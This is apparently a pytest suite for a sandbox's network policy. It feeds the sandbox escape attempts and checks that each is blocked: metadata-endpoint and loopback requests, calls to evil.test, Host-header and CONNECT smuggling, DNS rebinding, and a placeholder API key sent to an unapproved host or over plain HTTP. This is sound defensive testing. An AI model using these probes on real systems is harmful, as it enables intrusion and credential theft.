"""Attacks of a program whose policy names a network, on every kind of host that can have one."""

from __future__ import annotations

import socket
from typing import NamedTuple

import pytest

from escapes.conftest import HOSTS

CHECKS = {"names", "addresses", "authority", "hello"}  # taken away by `outside.without`
POLICY = {
    "network": ["api.example.com:80", "api.example.com:443", "*.example.com:80"],
    "secrets": {"API_KEY": ["sk-live-0123456789", ["api.example.com"]]},
}
PLAIN = {"network": POLICY["network"]}
_TRY = "import os, socket, ssl, urllib.request\ntry:\n    {}\n    r = 'ESCAPED'\nexcept (OSError, ValueError) as e:\n    r = repr(e)\nr"


class Attack(NamedTuple):
    """As in `attacks.py`; layers are those of level namespaces, and what the host's side checks (`CHECKS`)."""

    cannot: str
    code: str = ""
    policy: dict = PLAIN
    pair: tuple[str, ...] = ()
    branches: tuple[str, ...] = ()
    opened_by: tuple[str, ...] = ()
    still_held: tuple[str, ...] = ()


def _get(url: str) -> str:
    return _TRY.format(f"urllib.request.urlopen({url!r}, timeout=3)")


def _say(host: str, port: int, data: bytes, lack: bytes = b" 403 ") -> str:
    """Escaped when an answer comes that is no refusal."""
    return (
        f"import socket\nc = socket.create_connection(({host!r}, {port}), 3)\nc.sendall({data!r})\nr = c.recv(4096)\n"
        f"'ESCAPED' if r and {lack!r} not in r else r"
    )


_LISTEN = "s = socket.create_server(({!r}, {}))"
_ADDRESSES = (
    "127.0.0.1",
    "[::1]",
    "169.254.169.254",
    "10.0.0.1",
    "[::ffff:127.0.0.1]",
    "[fd00:ec2::254]",
    "0.0.0.0",
)
_SERVED = ("127.0.0.1", "169.254.169.254", "[::ffff:127.0.0.1]")
_MEETING = (
    "import socket\ns = socket.create_server(('127.0.0.1', 45673))\ns.settimeout(1)\ns.accept()\n'ESCAPED'",
    "import socket, time\nend, r = time.time() + 1, 'unharmed'\nwhile time.time() < end and r == 'unharmed':\n    try:\n"
    "        socket.create_connection(('127.0.0.1', 45673), 1)\n        r = 'ESCAPED'\n    except OSError:\n        time.sleep(0.02)\nr",
)
_DATAGRAMS = (
    "import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\ns.bind(('127.0.0.1', 45674))\ns.settimeout(1)\ns.recv(1)\n'ESCAPED'",
    "import socket, time\ns = socket.socket(type=socket.SOCK_DGRAM)\nfor n in range(40):\n    s.sendto(b'x', ('127.0.0.1', 45674))\n"
    "    time.sleep(0.02)\n'unharmed'",
)
_MANY = """
import socket
held, refused = [], 0
for n in range(200):
    c = socket.create_connection(('api.example.com', 80), 5)
    held.append(c)
alive = 0
for c in held:
    c.settimeout(5)
    try:
        c.sendall(b'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')
        alive += bool(c.recv(10))
    except OSError:
        pass
'ESCAPED' if alive > 64 else alive
"""

ATTACKS = (
    *(Attack(f"make_a_socket_of_family_{family}_and_type_{kind}", _TRY.format(f"socket.socket({family}, {kind})"), opened_by=("seccomp",) if (family, kind) in ((1, 1), (2, 2), (10, 2), (16, 3)) else ())
      for family, kind in ((1, 1), (2, 2), (10, 2), (2, 3), (10, 3), (16, 3), (17, 3), (38, 5), (40, 1))),
    Attack("speak_another_protocol", _TRY.format("socket.socket(2, 1, 262)"), opened_by=("seccomp",)),
    Attack("write_to_the_kernels_routes", _TRY.format("s = socket.socket(16, 3)\n    s.bind((0, 0))\n    s.send(bytes.fromhex('1c000000190005000100000000000000020000000000000000000000'))\n    assert int.from_bytes(s.recv(99)[16:20], 'little', signed=True) == 0").replace("ValueError", "AssertionError"), still_held=("seccomp",)),
    Attack("connect_to_the_hosts_loopback", _TRY.format("socket.create_connection(('127.0.0.1', {port}), 2)"), opened_by=("network landlock",), still_held=("network", "landlock seccomp")),
    *(Attack(f"reach_{address.strip('[]').replace(':', '_')}", _get(f"http://{address}/")) for address in _ADDRESSES if address not in _SERVED),
    *(Attack(f"reach_{address.strip('[]').replace(':', '_')}", _get(f"http://{address}/"), opened_by=("names addresses",), still_held=("names", "addresses")) for address in _SERVED),
    Attack("reach_an_address_that_no_entry_names", _get("http://8.8.8.8/"), opened_by=("names",)),
    *(Attack(f"reach_{address.strip('[]').replace(':', '_')}_by_tls", _get(f"https://{address}/")) for address in _ADDRESSES[:3]),
    Attack("reach_another_name", _get("http://evil.test/"), opened_by=("names",)),
    Attack("reach_another_port", _TRY.format("socket.create_connection(('api.example.com', 8080), 2)"), still_held=("landlock", "seccomp landlock")),
    Attack("ask_another_name_server", _say("8.8.8.8", 53, bytes.fromhex("001b123401000001000000000000046576696c04746573740000010001"), lack=b"\x83")),
    *(Attack(f"follow_a_redirect_to_{place}", _get(f"http://api.example.com/{place}"), opened_by=opened) for place, opened in (("evil", ("names",)), ("metadata", ("names addresses",)), ("loopback", ("names addresses",)), ("port", ()))),
    *(Attack(f"reach_what_{name}_leads_to", _get(f"http://{name}.example.com/"), opened_by=("addresses",)) for name in ("loopback", "metadata", "mapped", "mixed", "inner")),
    Attack("rebind_a_name", "import urllib.request\nr = []\nfor n in range(4):\n    try:\n        r.append(urllib.request.urlopen('http://rebinding.example.com/').status)\n    except OSError:\n        pass\n'ESCAPED' if len(r) > 1 else r"),
    Attack("ask_an_allowed_host_for_another", _say("api.example.com", 80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), opened_by=("authority",)),
    Attack("ask_by_an_absolute_target", _say("api.example.com", 80, b"GET http://evil.test/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n")),
    Attack("tunnel_elsewhere", _say("api.example.com", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")),
    Attack("name_another_host_by_tls", _TRY.format("c = ssl._create_unverified_context()\n    c.wrap_socket(socket.create_connection(('api.example.com', 443), 3), server_hostname='evil.test')"), opened_by=("hello",)),
    Attack("name_no_host_by_tls", _TRY.format("c = ssl._create_unverified_context()\n    c.wrap_socket(socket.create_connection(('api.example.com', 443), 3))"), opened_by=("hello",)),
    Attack("listen", _TRY.format(_LISTEN.format("127.0.0.1", 45672)), opened_by=("seccomp landlock",), still_held=("seccomp", "landlock")),
    *(Attack(f"take_the_services_place_at_{port}", _TRY.format(_LISTEN.format("198.18.0.1", port)), still_held=("seccomp", "landlock", "seccomp landlock")) for port in (53, 80, 443)),
    Attack("meet_a_sibling_over_loopback", pair=_MEETING, opened_by=("network seccomp landlock",), still_held=("seccomp landlock", "network landlock", "network seccomp")),
    Attack("meet_a_sibling_over_an_abstract_socket", pair=("import socket\ns = socket.socket(1)\ns.bind('\\0dspex')\ns.listen()\ns.settimeout(1)\ns.accept()\n'ESCAPED'", "import socket, time\nend, r = time.time() + 1, 'alone'\nwhile time.time() < end and r == 'alone':\n    s = socket.socket(1)\n    try:\n        s.connect('\\0dspex')\n        r = 'ESCAPED'\n    except OSError:\n        time.sleep(0.02)\nr"), opened_by=("network seccomp landlock",), still_held=("seccomp landlock",)),
    Attack("meet_a_branch_over_loopback", branches=_MEETING, still_held=("landlock",)),
    Attack("meet_a_branch_by_datagrams", branches=_DATAGRAMS, still_held=("landlock",)),
    Attack("hold_more_connections_than_allowed", _MANY),
    Attack("find_the_value_of_a_secret", "import os\nneedle = '9876543210-evil-ks'[::-1]\n'ESCAPED' if any(needle in v for v in os.environ.values()) else 'nothing'", policy=POLICY),
    Attack("have_a_secret_sent_without_tls", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'******' in r or b'sk-live' in r else r", policy=POLICY),
    Attack("have_a_secret_sent_elsewhere", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://www.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' in r else r", policy=POLICY),
    Attack("see_a_secret_in_an_echo", "import os, urllib.request as u\nr = u.urlopen(u.Request('https://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' not in r else r", policy=POLICY),
    Attack("keep_a_listener_of_the_service", "import os, socket\nfound = []\nfor n in range(3, 256):\n    try:\n        s = socket.socket(fileno=n)\n        found.append(s.family)\n        s.detach()\n    except OSError:\n        pass\n'ESCAPED' if {socket.AF_INET, socket.AF_INET6} & {*found} else found", opened_by=("descriptors",)),
    Attack("pass_descriptors_to_itself", _TRY.format("a, b = socket.socketpair()\n    socket.send_fds(a, [b'x'], [0])"), opened_by=("seccomp",)),
    Attack("raise_the_bound_of_buffers", _TRY.format("open('/proc/sys/net/ipv4/tcp_rmem', 'w').write('4096 9999999 9999999')"), still_held=("landlock", "seccomp landlock")),
    Attack("take_larger_buffers", _TRY.format("socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)"), opened_by=("seccomp",)),
)  # fmt: skip


@pytest.fixture(scope="session")
def loopback():
    """A server on the host's loopback."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def _job(attack: Attack, port: int, without: str = "") -> dict:
    def aimed(code: str) -> str:
        return code.replace("{port}", str(port)).replace("{{", "{").replace("}}", "}")

    left = {part: part in CHECKS for part in without.split()}
    job = {"name": attack.cannot, "policy": attack.policy, "outside": True}
    job |= {"without": [part for part in left if not left[part]], "unchecked": [part for part in left if left[part]]}
    if attack.pair or attack.branches:
        return job | {"pair" if attack.pair else "branches": [aimed(code) for code in attack.pair or attack.branches]}
    return job | {"codes": [aimed(attack.code)]}


CONTAINERS = [name for name in HOSTS if "container" in name]
connected = pytest.mark.parametrize("host", [name for name in HOSTS if name not in CONTAINERS], indirect=True)


@connected
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.cannot)
def test_attacker_on_a_network_cannot(attack, host, loopback):
    """The attack fails, nothing forbidden was connected to, and the engine goes on."""
    result = host.run(_job(attack, loopback))
    assert "raised" not in result, result
    assert result["value"] != "ESCAPED", result
    assert result["forbidden"] == [], result
    assert result["afterwards"] == 42


OPENED = [(attack, layers) for attack in ATTACKS for layers in attack.opened_by]
HELD = [(attack, layers) for attack in ATTACKS for layers in attack.still_held]


def _name(value):
    return value.cannot if isinstance(value, Attack) else value.replace(" ", "+")


@pytest.mark.parametrize(("attack", "without"), OPENED, ids=_name)
def test_without_its_layers_it_succeeds(attack, without, unwalled, loopback):
    """The layers named are what stops the attack: left out, it gets through."""
    result = unwalled("namespaces").run(_job(attack, loopback, without))
    assert result.get("value") == "ESCAPED", result


@pytest.mark.parametrize(("attack", "without"), HELD, ids=_name)
def test_without_these_layers_another_holds(attack, without, unwalled, loopback):
    """Layers are independent: with these left out, the attack is still stopped."""
    result = unwalled("namespaces").run(_job(attack, loopback, without))
    assert "raised" not in result, result
    assert result["value"] != "ESCAPED", result


@pytest.mark.parametrize("host", CONTAINERS, indirect=True)
def test_a_host_without_namespaces_gives_no_network(host):
    """There the policy is refused, with what it takes, and no guest runs without it."""
    result = host.run({"name": "refused", "codes": ["1"], "policy": PLAIN, "outside": True})
    assert "which a network takes" in result["raised"]
    assert result["raised"].startswith("IsolationError")


@connected
def test_what_is_allowed_works_on_every_kind_of_host(host):
    """An allowed request is answered, over both schemes; else that attacks fail would mean nothing."""
    code = (
        "import urllib.request\n[urllib.request.urlopen(f'{s}://api.example.com/').status for s in ('http', 'https')]"
    )
    result = host.run({"name": "works", "codes": [code], "policy": POLICY, "outside": True})
    assert result["value"] == [200, 200], result
